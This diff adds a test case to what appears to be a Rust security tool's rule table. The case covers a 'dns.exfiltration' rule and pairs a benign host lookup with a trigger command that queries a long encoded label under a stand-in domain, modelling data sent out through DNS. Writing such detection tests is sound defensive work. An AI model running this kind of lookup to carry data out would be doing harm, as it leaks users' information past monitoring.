@@ -885,6 +885,18 @@ const CASES: &[Case] = &[
         action: "ask",
         needs: &["bash"],
     },
+    // A name that carries data (a label as long as encoded bytes); an ordinary name does not.
+    Case {
+        rule: "dns.exfiltration",
+        setup: "",
+        trigger: (
+            "getent hosts mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjqwey3e.x.example.com >/dev/null; true",
+            None,
+        ),
+        near_miss: ("getent hosts pkgs.example.com >/dev/null; true", None),
+        action: "ask",
+        needs: &["getent"],
+    },
     // A service of the host on its loopback (a collector, a database): the rehearsal's own
     // loopback is empty, so what went there is unseen. The command's own server is no such one.
     Case {
